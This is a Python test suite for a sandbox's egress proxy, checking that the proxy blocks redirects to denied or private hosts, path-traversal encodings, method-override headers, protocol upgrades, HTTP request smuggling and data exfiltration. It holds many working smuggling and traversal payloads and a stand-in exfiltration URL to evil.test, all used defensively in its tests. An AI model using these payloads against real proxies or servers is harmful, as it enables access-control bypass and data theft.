"""Requests that are more than they seem, to hosts that may be asked for some things only."""

import asyncio
from pathlib import Path

import pytest

from tests.sandbox.egress.outside import CHARGE, Inside, Outside, inside, outside

pytestmark = pytest.mark.anyio
HOST = b"Host: good.example\r\n"
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n"


async def curl(box: Inside, *arguments: str) -> bytes:
    """Run curl by way of the proxy and return what it printed; nothing of the network outside is asked."""
    process = await asyncio.create_subprocess_exec(
        "curl", "-sS", "--max-time", "60", "--noproxy", "", "--proxy", f"http://127.0.0.1:{box.doors[3128]}",
        *arguments,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env={"PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    return (await process.communicate())[0]


def redirect(to: str) -> bytes:
    return f"HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\n\r\n".encode()


@pytest.mark.attack(27)
@pytest.mark.parametrize("granted", [False, True])
async def test_a_redirect_from_an_allowed_host_to_a_denied_one(tmp_path: Path, granted: bool) -> None:
    allow = ("good.example", *(("evil.test",) if granted else ()))
    async with (
        outside(tmp_path, "good.example", "evil.test") as world,
        inside(world, tmp_path, *allow) as box,
    ):
        world.responses["/start"] = redirect("http://evil.test/steal?data=1")
        came = await curl(box, "-L", "http://good.example/start")
        hosts = [request.host for request in world.requests]
        if granted:  # the control: the same way on, where it is allowed
            assert hosts == ["good.example", "evil.test"]
            assert CHARGE in came
        else:
            assert hosts == ["good.example"]
            assert box.reasons == {("evil.test", "host not allowed")}
            assert b"Overnight does not allow this: host not allowed." in came


@pytest.mark.attack(27, 10, 19)
async def test_a_redirect_to_a_private_address(tmp_path: Path) -> None:
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, network="open") as box:
        world.host("inner.example", "10.0.0.7")
        for target in ("http://169.254.169.254/latest", "http://127.0.0.1:8080/", "http://inner.example/"):
            world.requests.clear()
            world.responses["/start"] = redirect(target)
            assert CHARGE not in await curl(box, "-L", "http://good.example/start")
            assert [request.host for request in world.requests] == ["good.example"]
        assert {host for host, _ in world.dials} == {"93.184.216.1"}


@pytest.mark.attack(27, 29)
async def test_other_places_of_an_allowed_host(tmp_path: Path) -> None:
    rule = "good.example/org/project GET,HEAD"
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, rule) as box:
        for path in (
            "/", "/other", "/org/projects", "/org/project/../../other", "/org/project/%2e%2e/%2e%2e/other",
            "/org/project/..%2f..%2fother", "/org/project%2f..%2fother", "//org/project", "/org//project",
            "/org/./project", "/org/project/.", "/ORG/PROJECT", "/org/project\\..\\..\\other",
            "/org/project/%5c..", "/org/project;/../other", "/org/project/%252e%252e/other", "/%6frg/other",
            "/org/project/%00", "/org/project?x=1/../..#/other",
        ):  # fmt: skip
            request = f"GET {path} HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n".encode()
            came = await box.talk(80, request)
            # A query may hold anything; what is behind `#` never is part of a request.
            assert CHARGE not in came or path.startswith("/org/project?"), path
        assert [r.line for r in world.requests if not r.line.startswith("GET /org/project?")] == []
        for path in ("/org/project", "/org/project/", "/org/project/a/b?c=../d", "/%6frg/project/x"):
            assert CHARGE in await box.proxied(f"http://good.example{path}"), path


@pytest.mark.attack(28)
@pytest.mark.parametrize("rule", ["good.example GET,HEAD", "good.example"])
async def test_writing_to_a_host_that_may_be_read(tmp_path: Path, rule: str) -> None:
    reads_only = rule != "good.example"
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, rule) as box:
        for method in ("POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND", "get"):
            came = await box.proxied("http://good.example/", method, body=b"stolen")
            assert (b"403 " in came) is reads_only, method
        assert (len(world.requests) == 0) is reads_only
        count = len(world.requests)
        for method in (b"TRACE", b"CONNECT"):
            assert b"403 " in await box.talk(80, method + b" / HTTP/1.1\r\n" + HOST + b"\r\n"), method
        assert len(world.requests) == count


@pytest.mark.attack(28)
async def test_headers_that_name_another_method_or_place_are_taken_away(tmp_path: Path) -> None:
    rule = "good.example/read GET"
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, rule) as box:
        sent = (
            "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: POST",
            "x-http-METHOD-override: PATCH", "X-Original-URL: /admin", "X-Rewrite-URL: /admin",
            "X-Forwarded-Host: evil.test", "Proxy-Authorization: Basic c2VjcmV0", "Te: trailers",
            "Connection: X-Kept, close", "X-Kept: dropped", "X-Real: stays",
        )  # fmt: skip
        assert CHARGE in await box.proxied("http://good.example/read", "GET", *sent)
        head = world.requests[0].head.lower()
        for gone in (b"override", b"x-http-method", b"/admin", b"evil", b"proxy-", b"dropped", b"te:"):
            assert gone not in head
        assert b"x-real: stays" in head


@pytest.mark.attack(28)
async def test_a_connection_that_would_leave_http_behind(tmp_path: Path) -> None:
    rule = "good.example GET"
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, rule) as box:
        for upgrade in (b"websocket", b"h2c", b"TLS/1.0"):
            more = b"Connection: Upgrade\r\nUpgrade: " + upgrade + b"\r\n\r\n"
            assert b"403 " in await box.talk(80, b"GET / HTTP/1.1\r\n" + HOST + more)
            secure = await box.secure("good.example", b"GET / HTTP/1.1\r\n" + HOST + more, until=b"allowed")
            assert b"403 " in secure
        more = b"Connection: HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
        assert b"403 " in await box.talk(80, b"GET / HTTP/1.1\r\n" + HOST + more)
        assert world.requests == []
        assert ("good.example", "upgrade not allowed") in box.reasons


async def smuggles(world: Outside, box: Inside, message: bytes) -> bool:
    """Tell whether a second request that hides in a message reaches the host as one."""
    await box.talk(80, message)
    return any("/smuggled" in request.line for request in world.requests)


@pytest.mark.attack(28)
async def test_requests_within_requests(tmp_path: Path) -> None:
    rule = "good.example/read GET,POST"
    post = b"POST /read HTTP/1.1\r\n" + HOST
    chunked = b"Transfer-Encoding: chunked\r\n"
    hidden = b"0\r\n\r\n" + SMUGGLED
    length = b"Content-Length: %d\r\n" % len(hidden)
    messages = (
        post + length + chunked + b"\r\n" + hidden,
        post + chunked + length + b"\r\n" + hidden,
        post + b"Transfer-Encoding: chunked, identity\r\n\r\n" + hidden,
        post + b"Transfer-Encoding: xchunked\r\n" + length + b"\r\n" + hidden,
        post + b"Transfer-Encoding : chunked\r\n" + length + b"\r\n" + hidden,
        post + b"Transfer-Encoding:\x0bchunked\r\n" + length + b"\r\n" + hidden,
        post + b" Transfer-Encoding: chunked\r\n" + length + b"\r\n" + hidden,
        post + chunked + chunked + length + b"\r\n" + hidden,
        post + b"Content-Length: 0\r\n" + length + b"\r\n" + hidden,
        post + b"Content-Length: +5\r\n\r\n" + hidden,
        post + b"Content-Length: 5, 5\r\n\r\n" + hidden,
        post + b"Content-Length: 0x10\r\n\r\n" + hidden,
        post + chunked + b"\r\n" + b"5 ;\x00\r\nabcde\r\n" + hidden,
        post + chunked + b"\r\n-1\r\n" + hidden,
        post + chunked + b"\r\n5\r\nabcdeXX" + hidden,
        post + chunked + b"\r\n5\nabcde\n" + hidden,
        post + chunked + b"\r\nfffffffffffffffffffffffff\r\n" + hidden,
        b"POST /read HTTP/1.0\r\n" + HOST + chunked + b"\r\n" + hidden,
        b"GET /read HTTP/1.1\r\n" + HOST + b"X: y\r\n z\r\n" + length + b"\r\n" + hidden,
        b"GET /read HTTP/1.1 \r\n" + HOST + b"\r\n" + SMUGGLED,
        b"GET /read\x00 HTTP/1.1\r\n" + HOST + b"\r\n" + SMUGGLED,
        b"GET /read HTTP/1.1\r\nX: a\rGET /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
        b"GET http://good.example/smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
        b"GET /read HTTP/9.9\r\n" + HOST + b"\r\n" + SMUGGLED,
    )
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, rule) as box:
        for message in messages:
            assert not await smuggles(world, box, message), message
        # A body is a body, whatever it holds; and a second request in the open is judged by itself.
        body = post + b"Connection: close\r\n" + length + b"\r\n" + hidden
        world.requests.clear()
        assert not await smuggles(world, box, body)
        assert [request.body for request in world.requests] == [hidden]
        assert not await smuggles(world, box, b"GET /read HTTP/1.1\r\n" + HOST + b"\r\n" + SMUGGLED)
        assert ("good.example", "path not allowed") in box.reasons


@pytest.mark.attack(28)
async def test_an_answer_within_an_answer(tmp_path: Path) -> None:
    async with outside(tmp_path, "good.example") as world, inside(world, tmp_path, "good.example") as box:
        body = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nfake"
        world.responses["/a"] = (
            b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n"
            b'Alt-Svc: h3=":443"\r\n\r\n'
            b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
        )
        came = await box.proxied("http://good.example/a")
        assert b"content-length: 3" not in came.lower()
        assert b"alt-svc" not in came.lower()


@pytest.mark.attack(29)
async def test_the_attackers_own_account_at_an_allowed_service(tmp_path: Path) -> None:
    rule = "api.example/repos/me/project GET"
    async with outside(tmp_path, "api.example") as world, inside(world, tmp_path, rule) as box:
        own = b"Authorization: Bearer attackers-own-token\r\nHost: api.example\r\n"
        for line in (
            b"POST /gists", b"PUT /repos/attacker/loot/contents/x", b"POST /repos/me/project/issues",
            b"GET /gists/attackers", b"POST /v1/files", b"PUT /package/@attacker%2floot",
        ):  # fmt: skip
            body = b"Content-Length: 6\r\n\r\nstolen"
            came = await box.secure("api.example", line + b" HTTP/1.1\r\n" + own + body, until=b"allowed")
            assert b"403 " in came, line
        assert world.requests == []
        # The control: with nothing but the host granted, the service takes it.
    async with outside(tmp_path, "api.example") as world, inside(world, tmp_path, "api.example") as box:
        await box.secure("api.example", b"POST /gists HTTP/1.1\r\n" + own + body, trust=world.roots)
        assert [request.body for request in world.requests] == [b"stolen"]
